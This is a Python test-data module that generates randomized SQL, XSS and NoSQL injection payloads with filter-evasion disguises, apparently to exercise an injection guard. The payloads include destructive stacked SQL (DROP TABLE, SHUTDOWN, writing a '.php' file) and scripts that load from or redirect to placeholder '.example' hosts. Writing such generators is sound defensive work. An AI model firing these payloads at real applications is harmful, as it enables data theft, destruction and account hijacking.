"""Attacks of our own making: each language's grammar, a place to break out of, and disguises.

What is called is made up each time (`qx7f(3)`): nothing can be learned from names. `seed` parts
sets; those used while the guard was written are never the ones that are reported.
"""

import random
import string
from collections.abc import Callable, Iterator
from urllib.parse import quote


class Maker:
    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def one(self, *choices: str) -> str:
        return self.rng.choice(choices)

    def name(self) -> str:
        size = self.rng.randint(3, 8)
        return "".join(self.rng.choice(string.ascii_lowercase) for _ in range(size))

    def number(self) -> str:
        return str(self.rng.randint(1, 9999))


# -- SQL


def _tautology(m: Maker) -> str:
    n, w = m.number(), m.name()
    return m.one(
        f"{n}={n}",
        f"'{w}'='{w}",
        f"{n}<>{m.number()}7",
        f"{n} LIKE {n}",
        f"'{w}' LIKE '{w[0]}%",
        f"{n} BETWEEN 0 AND {n}9",
        f"{n} IN ({n},{m.number()})",
        f"NOT {n}={n}1",
        f"'{w}'>'",
        f"EXISTS(SELECT {n})",
        f"ASCII(SUBSTRING((SELECT {w} FROM {m.name()} LIMIT 1),1,1))>{n}",
        f"LENGTH({w})>{n}",
        f"(SELECT COUNT(*) FROM {w})>0",
        f"{n}=(SELECT {n} FROM {w})",
    )


def _blind(m: Maker) -> str:
    return f"{m.one('OR', 'AND', '||', '&&', 'XOR')} {_tautology(m)}"


def _timed(m: Maker) -> str:
    n = m.number()
    return m.one(
        f"AND SLEEP({n})",
        f"OR {m.number()}=(SELECT {n} FROM PG_SLEEP(5))",
        f"; WAITFOR DELAY '0:0:{n[0]}'",
        f"AND {n}=BENCHMARK({n}000,MD5('{m.name()}'))",
        f"; SELECT PG_SLEEP({n})",
        f"AND (SELECT {n} FROM (SELECT(SLEEP(5))){m.name()})",
        f"OR {n}=DBMS_PIPE.RECEIVE_MESSAGE('{m.name()}',5)",
    )


def _united(m: Maker) -> str:
    columns = ",".join(
        m.one(
            "NULL", m.number(), f"'{m.name()}'", "@@version", m.name(), f"CONCAT({m.name()},0x3a)"
        )
        for _ in range(m.rng.randint(1, 6))
    )
    source = m.one("", f" FROM {m.name()}", f" FROM {m.name()} WHERE {m.number()}=1", " FROM dual")
    if not source and not any(c in columns for c in "N0123456789'@,"):
        source = f" FROM {m.name()}"
    return f"UNION {m.one('', 'ALL ', 'DISTINCT ')}SELECT {columns}{source}"


def _stacked(m: Maker) -> str:
    t, n = m.name(), m.number()
    return "; " + m.one(
        f"DROP TABLE {t}",
        f"DELETE FROM {t}",
        f"DELETE FROM {t} WHERE {m.name()}={n}",
        f"UPDATE {t} SET {m.name()}={n}",
        f"INSERT INTO {t} VALUES ({n},'{m.name()}')",
        f"EXEC xp_{m.name()} '{m.name()}'",
        f"TRUNCATE TABLE {t}",
        f"DECLARE @{t} INT",
        f"SELECT * FROM {t}",
        f"ALTER TABLE {t} ADD {m.name()} INT",
        f"CREATE TABLE {t} ({m.name()} int)",
        "SHUTDOWN",
        f"SELECT {m.name()}({n})",
        f"GRANT ALL ON {t} TO {m.name()}",
    )


def _errors(m: Maker) -> str:
    n = m.number()
    return m.one(
        f"AND EXTRACTVALUE({n},CONCAT(0x7e,(SELECT {m.name()})))",
        f"AND UPDATEXML({n},CONCAT(0x7e,VERSION()),{n})",
        f"AND {n}=CONVERT(INT,(SELECT {m.name()} FROM {m.name()}))",
        f"AND {n}=CAST((SELECT {m.name()} FROM {m.name()})::text AS NUMERIC)",
        f"PROCEDURE ANALYSE(EXTRACTVALUE({n},CONCAT(0x5c,VERSION())),1)",
        f"OR ROW({n},1)>(SELECT COUNT(*),CONCAT({m.name()}(),FLOOR(RAND(0)*2))x FROM {m.name()} GROUP BY x)",
    )


def _clauses(m: Maker) -> str:
    n = m.number()
    return m.one(
        f"ORDER BY {n[0]}",
        f"GROUP BY {n[0]} HAVING {n}={n}",
        f"HAVING {n}={n}",
        f"LIMIT 1 INTO OUTFILE '/tmp/{m.name()}'",
        f"INTO OUTFILE '{m.name()}.php'",
    )


_SQL: tuple[Callable[[Maker], str], ...] = (
    _blind,
    _blind,
    _timed,
    _united,
    _united,
    _stacked,
    _errors,
    _clauses,
)


def _comments(m: Maker, text: str) -> str:
    return text.replace(" ", m.one("/**/", "/*x*/", f"/*{m.name()}*/"))


def _cased(m: Maker, text: str) -> str:
    return "".join(c.upper() if m.rng.random() < 0.5 else c.lower() for c in text)


def _spaces(m: Maker, text: str) -> str:
    return text.replace(" ", m.one("\t", "\n", "  ", "\r\n"))


def _versioned(m: Maker, text: str) -> str:
    for word in ("UNION", "SELECT", "OR", "AND"):
        text = text.replace(f" {word} ", f" /*!{m.one('', '50000')}{word}*/ ", 1)
    return text


def _encoded(m: Maker, text: str) -> str:
    return quote(text, safe="")


def _unicode_escaped(m: Maker, text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c in "'\"<>=()" else c for c in text)


def _wide(m: Maker, text: str) -> str:
    return text.translate({ord(c): ord(c) + 0xFEE0 for c in "'\"<>=()"})


def _same(m: Maker, text: str) -> str:
    return text


_DISGUISES = (
    _same,
    _same,
    _same,
    _comments,
    _cased,
    _cased,
    _spaces,
    _versioned,
    _encoded,
    _unicode_escaped,
    _wide,
)


def sql(seed: int, count: int) -> Iterator[str]:
    m = Maker(seed)
    for _ in range(count):
        body = m.rng.choice(_SQL)(m)
        sign = m.one("'", "'", "'", '"', "", "", "')", "'))", ")", "' ", '")')
        word = m.one(
            m.name(), m.number(), "", f"{m.name()}@{m.name()}.com", f"{m.name()} {m.name()}"
        )
        if not sign.strip(")") and sign.strip() in ("", ")"):
            word = m.one(m.number(), f"-{m.number()}", "1")
        end = m.one("-- ", "-- -", "#", "--", "/*", f"-- {m.name()}")
        if body.count("'") % 2 == 1:
            # The string that the statement closes itself.
            end = ""
            if "'" not in sign:
                body += "'"
        text = f"{word}{sign} {body}{' ' if end[:1] == '-' else ''}{end}"
        yield m.rng.choice(_DISGUISES)(m, text)


# -- markup and scripts


def _call(m: Maker) -> str:
    f, n = m.name(), m.number()
    return m.one(
        f"{f}({n})",
        f"{f}`{n}`",
        f"{f}.{m.name()}({n})",
        f"{f}(document.{m.name()})",
        f"window['{f}']({n})",
        f"self.{f}={n}",
        f"import('//{f}.example/x')",
        f"new {f.title()}({n})",
        f"location='//{f}.example/'+{m.name()}",
        f"[{n}].map({f})",
        f"{f}?.({n})",
        f"setTimeout({f})",
        f"throw {f}({n})",
    )


_EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
    "onpageshow",
    "onwheel",
    "oncut",
    "onscroll",
    "ontransitionend",
    "onbeforeinput",
    "onhashchange",
    "onauxclick",
]

_TAGS = [
    "img",
    "svg",
    "body",
    "input",
    "details",
    "video",
    "audio",
    "marquee",
    "div",
    "math",
    "a",
    "p",
    "select",
    "button",
    "x",
    "custom-tag",
]


def _element(m: Maker) -> str:
    event, tag, gap = m.rng.choice(_EVENTS), m.rng.choice(_TAGS), m.one(" ", "/", "\n", "\t", "  ")
    code = _call(m)
    wrapped = code if not any(c in code for c in " '>`\"") else f'"{code}"'.replace("'", "&#39;")
    extra = m.one("", f" src={m.name()}", " autofocus", f" {m.name()}={m.name()}")
    end = m.one(">", "/>", " >", f">{m.name()}", "", "//")
    if end == "" and not wrapped.endswith('"'):
        end = " "
    # A slash after a value without quotes would belong to it.
    rest = f"{extra.strip()}{m.one(' ', '  ')}" if extra else ""
    return f"<{tag}{gap}{rest}{event}{m.one('=', ' = ', '=')}{wrapped}{end}"


def _script(m: Maker) -> str:
    return m.one(
        f"<script>{_call(m)}</script>",
        f"<script src=//{m.name()}.example></script>",
        f"<script/{m.name()}>{_call(m)}</script >",
        f"<svg><script>{_call(m)}</script></svg>",
        f"<scr\nipt></scr\nipt><script>{_call(m)}</script>".replace("<scr\nipt></scr\nipt>", ""),
        f"</title><script>{_call(m)}//",
        f"</textarea><svg onload={m.name()}()>",
        f"<iframe srcdoc='<script>{m.name()}()</script>'>",
        f"<object data=data:text/html,{m.name()}>",
        f"<embed src=//{m.name()}.example/x.swf>",
        f"<base href=//{m.name()}.example>",
        f"<meta http-equiv=refresh content='0;url=javascript:{m.name()}()'>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={m.name()}(1)>",
        f'<noscript><p title="</noscript><img src=x onerror={m.name()}(1)>">',
        f"<svg><animate attributeName=href values=javascript:{m.name()}() /><a>x</a></svg>",
        f"<form><button formaction=javascript:{m.name()}()>x",
        f"<a href='java&Tab;script:{m.name()}()'>x</a>",
        f"<a href=&#106;avascript:{m.name()}()>x",
        f"<img src=x:{m.name()} onerror&#61;{m.name()}() onerror={m.name()}()>",
        f"<link rel=import href=//{m.name()}.example>",
        f"<div style=width:expression({m.name()}())>",
    )


def _attribute(m: Maker) -> str:
    sign, event = m.one('"', "'"), m.rng.choice(_EVENTS)
    code = _call(m).replace('"', "").replace("'", "").replace(" ", "")
    return m.one(
        f"{m.name()}{sign} {event}={code} {m.name()}={sign}",
        f"{sign}><svg onload={m.name()}()>",
        f"{sign} autofocus {event}={sign}{code}",
        f"{sign}/{event}={code}//",
        f"{m.name()} {event}={code} {m.name()}",
        f"{sign} style={sign}width:expression({m.name()}())",
    )


def _address(m: Maker) -> str:
    code = m.one(
        f"{m.name()}({m.number()})",
        f"{m.name()}`{m.number()}`",
        f"//%0a{m.name()}(1)",
        f"location={m.name()}",
        f"void({m.name()}())",
    )
    return m.one(
        f"javascript:{code}",
        f"JaVaScRiPt:{code}",
        f"java\tscript:{code}",
        f" javascript:{code}",
        f"data:text/html,<script>{m.name()}()</script>",
        f"javascript&colon;{code}",
        "data:text/html;base64,PHNjcmlwdD5meCgxKTwvc2NyaXB0Pg==",
    )


def _string(m: Maker) -> str:
    sign, code = m.one("'", '"'), f"{m.name()}({m.number()})"
    return m.one(
        f"{sign};{code}//",
        f"{sign}-{code}-{sign}",
        f"{sign}+{code}+{sign}",
        f"\\{sign};{code}//",
        f"{sign});{code}//",
        f"{sign}}});{code};//",
        f"${{{code}}}",
        f"{m.name()}{sign};{code};{sign}",
        f"</script><script>{code}//",
        f"{sign}-{m.name()}`{m.number()}`-{sign}",
        f"{sign};location={m.name()};//",
        f"{sign},{code},{sign}",
        f"{sign}||{code}//",
    )


_XSS: tuple[Callable[[Maker], str], ...] = (
    _element,
    _element,
    _element,
    _script,
    _script,
    _attribute,
    _address,
    _string,
)
_MARKUP_DISGUISES = (_same, _same, _same, _same, _encoded, _unicode_escaped, _wide)


def _tags_cased(m: Maker, text: str) -> str:
    for tag in ("script", "svg", "iframe", "img", "onload", "onerror"):
        text = text.replace(f"<{tag}", f"<{_cased(m, tag)}")
    return text


def xss(seed: int, count: int) -> Iterator[str]:
    m = Maker(seed)
    for _ in range(count):
        text = _tags_cased(m, m.rng.choice(_XSS)(m))
        prefix = (
            m.one("", "", "", f"{m.name()} ", f"{m.name()}, {m.name()}: ") if text[0] == "<" else ""
        )
        yield m.rng.choice(_MARKUP_DISGUISES)(m, prefix + text)


# -- document databases


def nosql(seed: int, count: int) -> Iterator[str]:
    """In text; `nosql_names` are names."""
    m = Maker(seed)
    for _ in range(count):
        op, w, n = (
            m.one("$ne", "$gt", "$gte", "$lt", "$nin", "$in", "$regex", "$exists"),
            m.name(),
            m.number(),
        )
        s = m.one("'", '"')
        yield m.one(
            f'{{"{op}": {n}}}',
            f"{{'{op}':'{w}'}}",
            f'{{"{op}": null}}',
            f"{{{op}: ''}}",
            f"{s}; return true; var {w}={s}",
            f"{s} || {s}1{s}=={s}1",
            f"{s} && this.{w}=={s}{n}",
            f"{s}||this.{w}.match(/^a/)||{s}",
            f"true, $where: '{n} == {n}'",
            f"[{op}]={n}",
            f"{s}, $or: [ {{}}, {{ {s}a{s}:{s}a",
            f'{{"$where": "this.{w} == {n}"}}',
            f"db.{w}.find({{{w}: {n}}})",
            f'{{"{w}": {{"{op}": {n}}}}}',
            f"{s};sleep({n});var {w}={s}",
            f"{s}; while(true){{}} {s}",
            f"{w}[{op}]={n}",
            f'{{"$or": [{{"{w}": "{n}"}}]}}',
        )


def nosql_names(seed: int, count: int) -> Iterator[str]:
    m = Maker(seed)
    for _ in range(count):
        yield m.one("$ne", "$gt", "$where", "$regex", "$in", "$nin", "$exists", "$or", "$expr")
